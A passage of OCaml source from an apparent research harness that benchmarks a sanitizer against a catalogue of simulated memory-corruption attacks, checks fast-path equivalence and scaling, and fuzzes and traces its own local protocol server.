      let r = Driver.run ~config:Config.none ~max_steps:e12_budget ~sanitize:true a in
      let expected =
        match List.assoc_opt a.Catalog.id e14_expected with
        | Some e -> e
        | None -> Some "unlisted-attack"
      in
      {
        o_scenario = a.Catalog.id;
        o_expected = expected;
        o_first =
          (match r.Driver.violations with
          | [] -> None
          | v :: _ -> Some (San.kind_name v.San.v_kind));
        o_records = List.length r.Driver.violations;
        o_verdict_same =
          r.Driver.verdict.Catalog.success
          = plain.Driver.verdict.Catalog.success;
      })
    All.attacks

(* False-positive sweep: every §5.1 hardened twin plus the benign
   workloads, oracle attached. Anything recorded here is a false
   positive. *)
let e14_clean () =
  let hardened =
    List.filter_map
      (fun (a : Catalog.t) ->
        match Driver.run_hardened ~config:Config.none ~sanitize:true a with
        | Some (_, _, vs) ->
          Some
            { cl_scenario = a.Catalog.id ^ "+hardened";
              cl_records = List.length vs }
        | None -> None)
      All.attacks
  in
  let workload name prog ~n =
    let m = Interp.load ~config:Config.none prog in
    let san = San.attach ~scenario:name (Machine.mem m) in
    Machine.attach_sanitizer m (Some san);
    Machine.set_input ~ints:[ n ] ~strings:[] m;
    let o = Interp.run ~max_steps:50_000_000 m prog ~entry:"main" in
    San.seal san;
    if not (Outcome.exited_normally o) then
      { cl_scenario = name; cl_records = max 1 (List.length (San.violations san)) }
    else { cl_scenario = name; cl_records = List.length (San.violations san) }
  in
  hardened
  @ [
      workload "pool-server" Workloads.pool_server ~n:64;
      workload "heap-churn" Workloads.heap_churn ~n:64;
    ]

(* Overhead: E13's shape with the sanitizer question. The inline baseline
   has no observer installed at all; the production side is the driver
   path with [sanitize:false] — the cost of carrying an (unattached)
   observer hook on every checked byte access. Gate at 5%. The enabled
   ratio (oracle attached, same path) is reported for scale but not
   gated: shadow lookups on every access are the price of the oracle. *)
let e14_overhead ~reps ~blocks () =
  let a = benign_pool in
  let config = Config.none in
  let m = Interp.load ~config a.Catalog.program in
  let snap = Machine.snapshot m in
  let baseline_block () =
    for _ = 1 to reps do
      Machine.restore m snap;
      let ints, strings = a.Catalog.mk_input m in
      Machine.set_input ~ints ~strings m;
      let o =
        Interp.run ~max_steps:e12_budget m a.Catalog.program
          ~entry:a.Catalog.entry
      in
      ignore (a.Catalog.check m o)
    done
  in
  let plain = Driver.prepare ~config ~sanitize:false a in
  let production_block () =
    for _ = 1 to reps do
      ignore (Driver.run_prepared ~max_steps:e12_budget plain)
    done
  in
  let sanitized = Driver.prepare ~config ~sanitize:true a in
  let sanitized_block () =
    for _ = 1 to reps do
      ignore (Driver.run_prepared ~max_steps:e12_budget sanitized)
    done
  in
  let best f =
    let best = ref Float.infinity in
    for _ = 1 to blocks do
      let t0 = Unix.gettimeofday () in
      f ();
      best := Float.min !best (Unix.gettimeofday () -. t0)
    done;
    !best
  in
  baseline_block ();
  production_block ();
  sanitized_block ();
  let ov_baseline_s = best baseline_block in
  let ov_production_s = best production_block in
  let sanitized_s = best sanitized_block in
  ( {
      ov_baseline_s;
      ov_production_s;
      ov_ratio =
        (if ov_baseline_s > 0. then ov_production_s /. ov_baseline_s else 1.);
    },
    if ov_production_s > 0. then sanitized_s /. ov_production_s else 1. )

let e14 ?(reps = 8) ?(blocks = 5) () =
  Telemetry.disable ();
  let t14_overhead, t14_enabled_ratio = e14_overhead ~reps ~blocks () in
  { t14_rows = e14_completeness (); t14_clean = e14_clean (); t14_overhead;
    t14_enabled_ratio }

let pp_e14 ppf r =
  Fmt.pf ppf
    "@[<v>E14 — PNASan oracle completeness: every attack flagged, no false \
     positives@,%s@,"
    (String.make 100 '-');
  List.iter
    (fun row ->
      let show = function None -> "-" | Some k -> k in
      Fmt.pf ppf "%-14s first violation %-20s (expected %-20s) %d record(s)%s%s@,"
        row.o_scenario (show row.o_first) (show row.o_expected) row.o_records
        (if row.o_first = row.o_expected then "" else "  MISMATCH")
        (if row.o_verdict_same then "" else "  VERDICT PERTURBED"))
    r.t14_rows;
  let dirty = List.filter (fun c -> c.cl_records > 0) r.t14_clean in
  List.iter
    (fun c ->
      Fmt.pf ppf "%-24s %d FALSE POSITIVE record(s)@," c.cl_scenario
        c.cl_records)
    dirty;
  let expected_flagged =
    List.length (List.filter (fun r -> r.o_expected <> None) r.t14_rows)
  in
  Fmt.pf ppf
    "overhead: baseline %.4fs, driver-unsanitized %.4fs (ratio %.3f, gate <= \
     1.05); oracle-attached %.1fx@,"
    r.t14_overhead.ov_baseline_s r.t14_overhead.ov_production_s
    r.t14_overhead.ov_ratio r.t14_enabled_ratio;
  Fmt.pf ppf
    "=> %d/%d attacks flagged as expected (%d oracle-visible), %d/%d clean \
     runs flag-free@]"
    (List.length (List.filter e14_row_ok r.t14_rows))
    (List.length r.t14_rows) expected_flagged
    (List.length r.t14_clean - List.length dirty)
    (List.length r.t14_clean)

(* ------------------------------------------------------------------ *)
(* E15 (extension): the fast-path equivalence + scaling gate             *)

module Vmem = Pna_vmem.Vmem
module Segment = Pna_vmem.Segment
module Perm = Pna_vmem.Perm
module Clock = Pna_telemetry.Clock

(* A hook that observes nothing: arming it disables every Vmem fast path
   (the gate requires no observer) without perturbing a single byte, so
   the same prepared scenario can be driven down both paths. *)
let byte_path_observer : Vmem.access_hook = fun ~access:_ ~addr:_ ~taint:_ -> ()

type e15_equiv_row = {
  fq_scenario : string;
  fq_config : string;
  fq_same_outcome : bool;  (** status, events, output, steps all equal *)
  fq_same_verdict : bool;
  fq_same_accounting : bool;
      (** per-run deltas of reads/writes/taint-writes/faults equal *)
}

let e15_equiv_row_ok r = r.fq_same_outcome && r.fq_same_verdict && r.fq_same_accounting

type e15_speed = {
  fs_fast_ns : float;  (** per memory op, u32-heavy loop, fast path *)
  fs_byte_ns : float;  (** same loop with the no-op observer armed *)
  fs_ratio : float;  (** byte / fast — the live fast-path payoff *)
}

type e15_scale_row = {
  sc_jobs : int;  (** effective worker-domain count *)
  sc_requests : int;
  sc_seconds : float;
}

type e15_report = {
  t15_rows : e15_equiv_row list;
  t15_pool_agree : bool;
      (** 4-domain pooled replies over the catalogue equal the sequential
          driver's — same gate shape as E12, re-checked here because the
          fast path and the sharded service both ride under it *)
  t15_speed : e15_speed;
  t15_scale : e15_scale_row list;
  t15_cores : int;  (** [Domain.recommended_domain_count] on this host *)
}

(* Fast path vs byte path: every catalogue attack under defenses off and
   fully on, driven twice from the same prepared image — once plain (fast
   paths engage wherever an access sits in one segment), once with the
   no-op observer armed (every access takes the per-byte reference
   path). Outcomes must be structurally identical and the access
   accounting deltas must match byte for byte. *)
let e15_equivalence () =
  List.concat_map
    (fun (a : Catalog.t) ->
      List.map
        (fun (config : Config.t) ->
          let p = Driver.prepare ~config a in
          let mem = Machine.mem (Driver.reset p) in
          let sample () =
            ( Vmem.total_reads mem,
              Vmem.total_writes mem,
              Vmem.total_taint_writes mem,
              Vmem.total_faults mem )
          in
          let delta (r0, w0, t0, f0) (r1, w1, t1, f1) =
            (r1 - r0, w1 - w0, t1 - t0, f1 - f0)
          in
          let run () =
            let before = sample () in
            let r = Driver.run_prepared ~max_steps:e12_budget p in
            (r, delta before (sample ()))
          in
          Vmem.set_observer mem None;
          let fast, fast_d = run () in
          Vmem.set_observer mem (Some byte_path_observer);
          let byte, byte_d = run () in
          Vmem.set_observer mem None;
          {
            fq_scenario = a.Catalog.id;
            fq_config = config.Config.name;
            fq_same_outcome = fast.Driver.outcome = byte.Driver.outcome;
            fq_same_verdict =
              fast.Driver.verdict.Catalog.success
              = byte.Driver.verdict.Catalog.success;
            fq_same_accounting = fast_d = byte_d;
          })
        [ Config.none; Config.full ])
    All.attacks

(* The live u32-heavy microbenchmark: the same mixed read/write loop
   timed on the fast path and then with the no-op observer forcing the
   per-byte path. Unlike the bench harness numbers this ratio has no
   per-call scaffolding in it — it is the payoff the interpreter's inner
   loop actually sees. *)
let e15_speed ?(iters = 400_000) () =
  let v = Vmem.create () in
  ignore (Vmem.map v ~kind:Segment.Data ~base:0x1000 ~size:0x1000 ~perm:Perm.rw);
  let loop () =
    let acc = ref 0 in
    for i = 0 to iters - 1 do
      let addr = 0x1000 + (i land 0x3fe) * 4 in
      Vmem.write_u32 v addr (i land 0xffff);
      acc := !acc + Vmem.read_u32 v addr
    done;
    ignore (Sys.opaque_identity !acc)
  in
  let best f =
    f ();
    let best = ref Float.infinity in
    for _ = 1 to 3 do
      let t0 = Clock.now_ns () in
      f ();
      best := Float.min !best (Clock.elapsed_s ~a:t0 ~b:(Clock.now_ns ()))
    done;
    !best
  in
  let per_op s = s *. 1e9 /. float_of_int (2 * iters) in
  let fast_s = best loop in
  Vmem.set_observer v (Some byte_path_observer);
  let byte_s = best loop in
  Vmem.set_observer v None;
  {
    fs_fast_ns = per_op fast_s;
    fs_byte_ns = per_op byte_s;
    fs_ratio = (if fast_s > 0. then byte_s /. fast_s else Float.infinity);
  }

(* Domain scaling over the E12 stream, memoization off so every request
   is real work. Wall-clock at each worker count; the gate is applied by
   [e15_ok] relative to what the host can actually parallelize. *)
let e15_scaling ~repeats ~scale () =
  let stream = e12_stream ~repeats in
  List.map
    (fun n ->
      let svc = Service.create ~jobs:n ~memo:false () in
      let (_ : Service.reply list), secs =
        Service.timed (fun () -> Service.run_batch svc stream)
      in
      let row =
        { sc_jobs = Service.jobs svc; sc_requests = List.length stream;
          sc_seconds = secs }
      in
      Service.shutdown svc;
      row)
    scale

let e15 ?(iters = 400_000) ?(repeats = 16) ?(scale = [ 1; 4 ]) () =
  let verify_jobs =
    Service.matrix_jobs
      ~configs:[ Config.none; Config.full ]
      ~max_steps:e12_budget ()
  in
  let sequential =
    List.map
      (fun (j : Service.job) ->
        Service.reply_of_result
          (Driver.run ~config:j.Service.j_config ~max_steps:e12_budget
             j.Service.j_attack))
      verify_jobs
  in
  let svc = Service.create ~jobs:4 () in
  let pooled = Service.run_batch svc verify_jobs in
  Service.shutdown svc;
  let strip (r : Service.reply) = { r with Service.r_cached = false } in
  {
    t15_rows = e15_equivalence ();
    t15_pool_agree = List.map strip pooled = List.map strip sequential;
    t15_speed = e15_speed ~iters ();
    t15_scale = e15_scaling ~repeats ~scale ();
    t15_cores = Domain.recommended_domain_count ();
  }

let pp_e15 ppf r =
  Fmt.pf ppf
    "@[<v>E15 — Vmem fast path equivalent and paying; service scaling@,%s@,"
    (String.make 100 '-');
  List.iter
    (fun row ->
      if not (e15_equiv_row_ok row) then
        Fmt.pf ppf "%-14s %-14s DIVERGES%s%s%s@," row.fq_scenario row.fq_config
          (if row.fq_same_outcome then "" else "  [outcome]")
          (if row.fq_same_verdict then "" else "  [verdict]")
          (if row.fq_same_accounting then "" else "  [accounting]"))
    r.t15_rows;
  Fmt.pf ppf
    "fast path == byte path on %d/%d prepared runs (outcome, verdict, access \
     accounting)@,\
     pooled (4 domains) %s the sequential driver@,\
     u32 loop: fast %.1f ns/op, byte path %.1f ns/op  (%.1fx, gate >= 3)@,"
    (List.length (List.filter e15_equiv_row_ok r.t15_rows))
    (List.length r.t15_rows)
    (if r.t15_pool_agree then "matches" else "DIVERGES FROM")
    r.t15_speed.fs_fast_ns r.t15_speed.fs_byte_ns r.t15_speed.fs_ratio;
  List.iter
    (fun s ->
      Fmt.pf ppf "scaling: jobs=%d  %4d req in %6.3fs  (%8.0f req/s)@,"
        s.sc_jobs s.sc_requests s.sc_seconds
        (if s.sc_seconds > 0. then float_of_int s.sc_requests /. s.sc_seconds
         else Float.infinity))
    r.t15_scale;
  let gate =
    match r.t15_scale with
    | first :: (_ :: _ as rest) ->
      let last = List.nth rest (List.length rest - 1) in
      Fmt.str "%d-domain speedup %.2fx over 1 domain (%d core(s) available)"
        last.sc_jobs
        (if last.sc_seconds > 0. then first.sc_seconds /. last.sc_seconds
         else Float.infinity)
        r.t15_cores
    | _ -> Fmt.str "scaling sweep skipped (%d core(s) available)" r.t15_cores
  in
  Fmt.pf ppf "=> %s@]" gate

(* ------------------------------------------------------------------ *)
(* E16 (extension): the wire gate — load, protocol fuzz, chaos soak      *)

module Server = Pna_net.Server
module Nclient = Pna_net.Client
module Nframe = Pna_net.Frame
module Loadgen = Pna_net.Loadgen
module Metrics = Pna_telemetry.Metrics

(* Host-adaptive request count: >= 100k everywhere (the CI floor), >= 1M
   on hosts with real parallelism. [PNA_E16_N] overrides either way. *)
let e16_requests ?requests () =
  match requests with
  | Some n -> max 1 n
  | None -> (
    match Sys.getenv_opt "PNA_E16_N" with
    | Some s -> ( try max 1 (int_of_string s) with _ -> 100_000)
    | None ->
      if Domain.recommended_domain_count () >= 8 then 1_000_000 else 100_000)

type e16_fuzz = {
  nf_frames : int;  (** malformed frames sent *)
  nf_rejected : int;  (** answered with a classified [Reply_error] *)
  nf_closed : int;  (** connection closed without a reply (EOF cases) *)
  nf_hung : int;  (** client receive timeouts — the gate requires 0 *)
  nf_alive : bool;  (** the server answers a ping after the storm *)
  nf_classes : (string * int) list;
      (** server-side [pna_net_protocol_errors_total] per class *)
}

(* One malformed frame per connection (the server hangs up after a
   protocol error), raw sockets so nothing on the client side repairs
   the damage before it hits the wire. *)
let e16_fuzz ?(frames = 120) ~host ~port ~registry ~seed () =
  let rng = Random.State.make [| 0xf022; seed |] in
  let le32 b off v =
    for i = 0 to 3 do
      Bytes.set b (off + i) (Char.chr ((v lsr (8 * i)) land 0xff))
    done
  in
  let fix_crc b =
    let crc =
      Pna_net.Crc32.string
        ~crc:(Pna_net.Crc32.string (Bytes.sub_string b 0 12))
        ~off:Nframe.header_len
        ~len:(Bytes.length b - Nframe.header_len)
        (Bytes.to_string b)
    in
    le32 b 12 crc
  in
  let base () =
    Bytes.of_string
      (Nframe.encode
         (Nframe.Request
            {
              Nframe.rq_corr = 7;
              rq_attack = "overflow-vptr";
              rq_config = "none";
              rq_chaos_seed = None;
              rq_max_steps = Some 1000;
              rq_sanitize = false;
              rq_engine = `Interp;
              rq_trace = None;
            }))
  in
  let rejected = ref 0 and closed = ref 0 and hung = ref 0 in
  for _ = 1 to frames do
    let truncate_close = ref false in
    let frame =
      let b = base () in
      match Random.State.int rng 6 with
      | 0 ->
        (* single bit flip anywhere lands in Bad_crc (or an earlier
           header check) — never an uncaught exception *)
        let i = Random.State.int rng (Bytes.length b) in
        Bytes.set b i
          (Char.chr (Char.code (Bytes.get b i) lxor (1 lsl Random.State.int rng 8)));
        b
      | 1 ->
        truncate_close := true;
        Bytes.sub b 0 (1 + Random.State.int rng (Bytes.length b - 1))
      | 2 ->
        le32 b 8 0x7fff_ffff;
        (* inflated length must fail fast, CRC or no CRC *)
        b
      | 3 ->
        let g = Bytes.create 32 in
        for i = 0 to 31 do
          Bytes.set g i (Char.chr (Random.State.int rng 256))
        done;
        g
      | 4 ->
        Bytes.set b 4 '\x09';
        fix_crc b;
        (* CRC-valid frame from the future: Bad_version *)
        b
      | _ ->
        Bytes.set b 5 '\xee';
        fix_crc b;
        (* CRC-valid unknown kind: Bad_kind *)
        b
    in
    let fd = Unix.socket ~cloexec:true Unix.PF_INET Unix.SOCK_STREAM 0 in
    (try
       Unix.connect fd (Unix.ADDR_INET (Unix.inet_addr_of_string host, port));
       Unix.setsockopt_float fd Unix.SO_RCVTIMEO 5.;
       let rec write_all off =
         if off < Bytes.length frame then
           write_all (off + Unix.write fd frame off (Bytes.length frame - off))
       in
       write_all 0;
       if !truncate_close then incr closed
       else begin
         let buf = Bytes.create 4096 and acc = ref "" and decided = ref false in
         while not !decided do
           match Nframe.decode !acc with
           | Nframe.Msg (Nframe.Reply_error _, _) ->
             incr rejected;
             decided := true
           | Nframe.Msg (_, used) ->
             acc := String.sub !acc used (String.length !acc - used)
           | Nframe.Fail _ ->
             incr closed;
             decided := true
           | Nframe.Need _ -> (
             match Unix.read fd buf 0 4096 with
             | 0 ->
               incr closed;
               decided := true
             | n -> acc := !acc ^ Bytes.sub_string buf 0 n
             | exception Unix.Unix_error ((Unix.EAGAIN | Unix.EWOULDBLOCK), _, _)
               ->
               incr hung;
               decided := true)
         done
       end
     with Unix.Unix_error _ -> incr closed);
    try Unix.close fd with Unix.Unix_error _ -> ()
  done;
  let alive =
    match Nclient.connect ~timeout_s:5. ~host ~port () with
    | Error _ -> false
    | Ok c ->
      let ok = Nclient.ping c 42 = Ok () in
      Nclient.close c;
      ok
  in
  {
    nf_frames = frames;
    nf_rejected = !rejected;
    nf_closed = !closed;
    nf_hung = !hung;
    nf_alive = alive;
    nf_classes =
      List.filter_map
        (fun cls ->
          let c =
            Metrics.counter ~labels:[ ("class", cls) ] registry
              "pna_net_protocol_errors_total"
          in
          match Metrics.count c with 0 -> None | n -> Some (cls, n))
        [ "magic"; "version"; "kind"; "oversize"; "crc"; "payload" ];
  }

(* The in-process mirror of one wire request: exactly what the server's
   service executes, minus the socket — the comparison point for the
   verdict-equivalence half of the gate. *)
let e16_expected_sig ~max_steps (s : Loadgen.spec) =
  match
    ( List.find_opt
        (fun (a : Catalog.t) -> a.Catalog.id = s.Loadgen.s_attack)
        All.attacks,
      List.find_opt
        (fun (c : Config.t) -> c.Config.name = s.Loadgen.s_config)
        Config.all )
  with
  | Some attack, Some config ->
    let reply =
      match s.Loadgen.s_chaos_seed with
      | None ->
        (* the load generator requests sanitize=false, so pin it here
           too — the PNA_SANITIZE=1 test pass must not skew the mirror *)
        Service.reply_of_result
          (Driver.run ~config ~max_steps ~sanitize:false attack)
      | Some seed ->
        let p = Driver.prepare ~config attack in
        let s =
          Driver.supervise ~config ~max_steps
            ~reload:(fun () -> Driver.reset p)
            ~plan:(Plan.generate ~seed ()) attack
        in
        Service.reply_of_supervised ~chaos_seed:seed s
    in
    Some (Loadgen.signature (Nframe.rep_of_reply reply))
  | _ -> None

(* Compare every wire-sampled reply signature against the in-process
   driver: (agreeing, total). *)
let e16_verdict_check ~max_steps ~distinct ~seed (r : Loadgen.result) =
  let specs = Loadgen.specs ~distinct ~seed () in
  let expected = Hashtbl.create 64 in
  Array.iter
    (fun s ->
      let k = Loadgen.spec_key s in
      if not (Hashtbl.mem expected k) then
        Hashtbl.add expected k (e16_expected_sig ~max_steps s))
    specs;
  List.fold_left
    (fun (agree, total) (key, sig_) ->
      match Hashtbl.find_opt expected key with
      | Some (Some exp) when exp = sig_ -> (agree + 1, total + 1)
      | _ -> (agree, total + 1))
    (0, 0) r.Loadgen.lg_samples

type e16_report = {
  t16_load : Loadgen.result;
  t16_fuzz : e16_fuzz;
  t16_chaos : Loadgen.result;
  t16_agree : int;  (** wire reply signatures matching the in-process driver *)
  t16_total : int;  (** ... out of this many distinct sampled specs *)
  t16_cores : int;
}

let lg_rejected_count (r : Loadgen.result) =
  List.fold_left (fun a (_, n) -> a + n) 0 r.Loadgen.lg_rejected

(* every request ends in exactly one bucket *)
let lg_accounted (r : Loadgen.result) =
  r.Loadgen.lg_served + r.Loadgen.lg_shed_final + lg_rejected_count r
  + r.Loadgen.lg_hung
  = r.Loadgen.lg_n

let e16 ?requests ?(chaos_requests = 1_500) ?(fuzz_frames = 120) ?(seed = 16)
    () =
  let n = e16_requests ?requests () in
  let cores = Domain.recommended_domain_count () in
  let svc = Service.create () in
  let server =
    Server.start
      ~config:
        (* idle timeout well under the fuzz client's 5s read timeout, so
           a half-sent frame is visibly reaped, never mistaken for a
           hang *)
        { Server.default_config with max_inflight = 128; idle_timeout_s = 2. }
      svc
  in
  let host = "127.0.0.1" and port = Server.port server in
  let conns = max 2 (min 8 cores) in
  let distinct = 48 in
  let load = Loadgen.run ~conns ~distinct ~host ~port ~n ~seed () in
  let fuzz =
    e16_fuzz ~frames:fuzz_frames ~host ~port ~registry:(Server.registry server)
      ~seed ()
  in
  let chaos =
    Loadgen.run ~chaos:true ~conns:2 ~distinct ~host ~port ~n:chaos_requests
      ~seed:(seed + 7) ()
  in
  Server.stop server;
  Service.shutdown svc;
  (* what the server clamps each request's deadline to: the spec budget
     is below the default cap, so it passes through unchanged *)
  let max_steps =
    min Loadgen.default_max_steps Server.default_config.Server.max_steps_cap
  in
  let a1, t1 = e16_verdict_check ~max_steps ~distinct ~seed load in
  let a2, t2 = e16_verdict_check ~max_steps ~distinct ~seed:(seed + 7) chaos in
  {
    t16_load = load;
    t16_fuzz = fuzz;
    t16_chaos = chaos;
    t16_agree = a1 + a2;
    t16_total = t1 + t2;
    t16_cores = cores;
  }

let pp_e16 ppf r =
  Fmt.pf ppf
    "@[<v>E16 — the wire gate: load, protocol fuzz, chaos soak@,%s@,\
     load:  %a@,\
     fuzz:  %d malformed frames -> %d rejected / %d closed / %d hung; server \
     %s@,"
    (String.make 100 '-') Loadgen.pp r.t16_load r.t16_fuzz.nf_frames
    r.t16_fuzz.nf_rejected r.t16_fuzz.nf_closed r.t16_fuzz.nf_hung
    (if r.t16_fuzz.nf_alive then "alive" else "DEAD");
  if r.t16_fuzz.nf_classes <> [] then
    Fmt.pf ppf "       classified server-side: %a@,"
      Fmt.(list ~sep:(any "  ") (pair ~sep:(any "=") string int))
      r.t16_fuzz.nf_classes;
  Fmt.pf ppf "chaos: %a@,verdicts: %d/%d sampled wire replies identical to \
              the in-process driver@,=> %s on %d core(s)@]"
    Loadgen.pp r.t16_chaos r.t16_agree r.t16_total
    (if
       r.t16_load.Loadgen.lg_hung = 0
       && r.t16_chaos.Loadgen.lg_hung = 0
       && r.t16_fuzz.nf_hung = 0
       && r.t16_fuzz.nf_alive
       && r.t16_agree = r.t16_total
     then "wire gate holds"
     else "WIRE GATE FAILS")
    r.t16_cores

(* ------------------------------------------------------------------ *)
(* E18: wire-to-verdict observability — distributed trace completeness,
   forensic-bundle fidelity, wire back-compat, disabled overhead.       *)

module Flight = Pna_flight.Flight
module Jsonx = Pna_telemetry.Jsonx

type e18_wire = {
  w_traced : int;  (** sampled requests the load generator traced *)
  w_traces : int;  (** distinct trace ids found in the merged export *)
  w_roots_ok : bool;
      (** every trace has exactly one root span, and it is the client's *)
  w_orphans : int;  (** spans whose parent id resolves to no span — must be 0 *)
  w_layers_ok : bool;
      (** client-request, server request, queue-wait and job spans all
          present in every trace *)
  w_queue_ok : bool;  (** queue-wait never outlasts its request span *)
  w_dropped : int;  (** trace ring drops during the run — must be 0 *)
}

(* One span as read back out of the merged Chrome document: linkage
   lives entirely in the exported args, which is the property under
   test — a merge re-homes pids but must preserve the span tree. *)
type e18_span = {
  sp_trace : int;
  sp_span : int;
  sp_parent : int;
  sp_name : string;
  sp_dur : float;
}

let e18_spans doc =
  let evs =
    match Jsonx.member "traceEvents" doc with
    | Some (Jsonx.List l) -> l
    | _ -> []
  in
  let arg ev k =
    match Jsonx.member "args" ev with
    | Some a -> Jsonx.member k a
    | None -> None
  in
  List.filter_map
    (fun ev ->
      match (arg ev "trace_id", arg ev "span_id") with
      | Some (Jsonx.Int sp_trace), Some (Jsonx.Int sp_span) ->
        Some
          {
            sp_trace;
            sp_span;
            sp_parent =
              (match arg ev "parent_id" with
              | Some (Jsonx.Int p) -> p
              | _ -> 0);
            sp_name =
              Option.value ~default:""
                (Option.bind (Jsonx.member "name" ev) Jsonx.to_str);
            sp_dur =
              Option.value ~default:0.
                (Option.bind (Jsonx.member "dur" ev) Jsonx.to_float);
          }
      | _ -> None)
    evs

(* Connectivity over the merged document: group spans by trace id and
   demand, per trace, one client root, zero orphans, all four layers,
   and queue-waits bounded by the longest request span. *)
let e18_connectivity spans =
  let groups : (int, e18_span list) Hashtbl.t = Hashtbl.create 64 in
  List.iter
    (fun s ->
      Hashtbl.replace groups s.sp_trace
        (s :: Option.value ~default:[] (Hashtbl.find_opt groups s.sp_trace)))
    spans;
  let traces = ref 0
  and roots_ok = ref true
  and orphans = ref 0
  and layers_ok = ref true
  and queue_ok = ref true in
  Hashtbl.iter
    (fun _ group ->
      incr traces;
      let ids = List.map (fun s -> s.sp_span) group in
      let roots = List.filter (fun s -> s.sp_parent = 0) group in
      (match roots with
      | [ r ] -> if r.sp_name <> "client-request" then roots_ok := false
      | _ -> roots_ok := false);
      List.iter
        (fun s ->
          if s.sp_parent <> 0 && not (List.mem s.sp_parent ids) then
            incr orphans)
        group;
      let has n = List.exists (fun s -> s.sp_name = n) group in
      if not (has "client-request" && has "request" && has "queue-wait" && has "job")
      then layers_ok := false;
      let max_req =
        List.fold_left
          (fun acc s -> if s.sp_name = "request" then Float.max acc s.sp_dur else acc)
          0. group
      in
      List.iter
        (fun s ->
          if s.sp_name = "queue-wait" && s.sp_dur > max_req then
            queue_ok := false)
        group)
    groups;
  (!traces, !roots_ok, !orphans, !layers_ok, !queue_ok)

(* The in-process stand-in for two cooperating processes: client spans
   (the load generator's domains) and server spans are exported as two
   separate Chrome documents, then re-merged with {!Trace.merge_chrome}
   — exactly what `pna trace --merge` does to files from two real
   processes. Linkage must survive because it rides in span args. *)
let e18_split_merge () =
  let doc = Trace.chrome_json () in
  let evs =
    match Jsonx.member "traceEvents" doc with
    | Some (Jsonx.List l) -> l
    | _ -> []
  in
  let tid ev =
    match Option.bind (Jsonx.member "tid" ev) Jsonx.to_int with
    | Some t -> t
    | None -> -1
  in
  let is_client_ev ev =
    Option.bind (Jsonx.member "name" ev) Jsonx.to_str = Some "client-request"
  in
  let client_tracks =
    List.sort_uniq compare (List.map tid (List.filter is_client_ev evs))
  in
  let client, server =
    List.partition (fun ev -> List.mem (tid ev) client_tracks) evs
  in
  Trace.merge_chrome
    [
      Jsonx.Obj [ ("traceEvents", Jsonx.List client) ];
      Jsonx.Obj [ ("traceEvents", Jsonx.List server) ];
    ]

let e18_wire ?(requests = 96) ?(sample_every = 4) ?(seed = 18) () =
  assert (Telemetry.enabled ());
  Trace.reset ();
  let svc = Service.create ~jobs:2 () in
  let server = Server.start svc in
  let host = "127.0.0.1" and port = Server.port server in
  let load =
    Loadgen.run ~conns:2 ~window:8 ~distinct:12 ~sample_every ~host ~port
      ~n:requests ~seed ()
  in
  Server.stop server;
  Service.shutdown svc;
  let dropped = Trace.dropped () in
  let merged = e18_split_merge () in
  let traces, roots_ok, orphans, layers_ok, queue_ok =
    e18_connectivity (e18_spans merged)
  in
  {
    w_traced = load.Loadgen.lg_traced;
    w_traces = traces;
    w_roots_ok = roots_ok;
    w_orphans = orphans;
    w_layers_ok = layers_ok;
    w_queue_ok = queue_ok;
    w_dropped = dropped;
  }

type e18_forensic_row = {
  fr_id : string;
  fr_live : (string * int) option;
      (** (site, faulting address) of the live PNASan first violation *)
  fr_bundle : (string * int) option;  (** same, read back from verdict.json *)
  fr_match : bool;
}

let e18_forensics ?dir () =
  let dir =
    match dir with
    | Some d -> d
    | None ->
      Filename.concat
        (Filename.get_temp_dir_name ())
        (Fmt.str "pna-e18-forensics-%d" (Unix.getpid ()))
  in
  List.map
    (fun (a : Catalog.t) ->
      let r, _session, bundle = Driver.run_forensic ~dir a in
      let fr_live =
        match r.Driver.violations with
        | v :: _ -> Some (v.San.v_site, v.San.v_addr)
        | [] -> None
      in
      let fr_bundle =
        match Flight.load_verdict bundle with
        | Error _ -> None
        | Ok j -> (
          match Jsonx.member "first_violation" j with
          | Some (Jsonx.Obj _ as f) -> (
            match (Jsonx.member "site" f, Jsonx.member "addr" f) with
            | Some (Jsonx.Str s), Some (Jsonx.Int addr) -> Some (s, addr)
            | _ -> None)
          | _ -> None)
      in
      { fr_id = a.Catalog.id; fr_live; fr_bundle; fr_match = fr_live = fr_bundle })
    All.attacks

type e18_compat = {
  c_v1_versions : bool;
      (** every pre-trace message kind still encodes as version 1 —
          untraced traffic is byte-compatible with old decoders *)
  c_v1_roundtrip : bool;  (** ... and decodes, with no trace context *)
  c_v2_roundtrip : bool;
      (** a traced request stamps version 2 and round-trips its context *)
  c_stats_roundtrip : bool;  (** the Stats pair round-trips as version 2 *)
}

let e18_compat () =
  let req trace =
    {
      Nframe.rq_corr = 5;
      rq_attack = "overflow-vptr";
      rq_config = "none";
      rq_chaos_seed = None;
      rq_max_steps = Some 1000;
      rq_sanitize = false;
      rq_engine = `Interp;
      rq_trace = trace;
    }
  in
  let rep =
    {
      Nframe.rp_corr = 5;
      rp_id = "overflow-vptr";
      rp_config = "none";
      rp_chaos_seed = None;
      rp_status = "exited";
      rp_success = true;
      rp_detail = "";
      rp_attempts = 1;
      rp_cached = false;
      rp_violations = 0;
    }
  in
  let v1_msgs =
    [
      Nframe.Request (req None);
      Nframe.Reply_ok rep;
      Nframe.Reply_shed { sh_corr = 5; sh_retry_after_ms = 10 };
      Nframe.Reply_error { er_corr = 5; er_message = "nope" };
      Nframe.Ping 9;
      Nframe.Pong 9;
    ]
  in
  let version_byte m = Char.code (Nframe.encode m).[4] in
  let roundtrips m =
    let enc = Nframe.encode m in
    match Nframe.decode enc with
    | Nframe.Msg (m', used) -> used = String.length enc && m' = m
    | _ -> false
  in
  let traced = Nframe.Request (req (Some (0xabc, 0xdef))) in
  {
    c_v1_versions = List.for_all (fun m -> version_byte m = 1) v1_msgs;
    c_v1_roundtrip = List.for_all roundtrips v1_msgs;
    c_v2_roundtrip = version_byte traced = 2 && roundtrips traced;
    c_stats_roundtrip =
      version_byte (Nframe.Stats_req 3) = 2
      && roundtrips (Nframe.Stats_req 3)
      && roundtrips (Nframe.Stats_rep { st_nonce = 3; st_payload = "x 1\n" });
  }

type e18_report = {
  t18_wire : e18_wire;
  t18_rows : e18_forensic_row list;
  t18_compat : e18_compat;
  t18_overhead : e13_overhead;
}

(* [blocks] is higher than E13's default: this gate re-checks the same
   overhead bound as a rider on a long run, and best-of-more-blocks is
   the cheap way to keep the ratio out of scheduler noise. *)
let e18 ?(requests = 96) ?(seed = 18) ?(reps = 8) ?(blocks = 10) () =
  (* overhead first: it asserts telemetry is still off *)
  let t18_overhead = e13_overhead ~reps ~blocks () in
  let t18_wire =
    Telemetry.with_enabled (fun () -> e18_wire ~requests ~seed ())
  in
  let t18_rows = e18_forensics () in
  let t18_compat = e18_compat () in
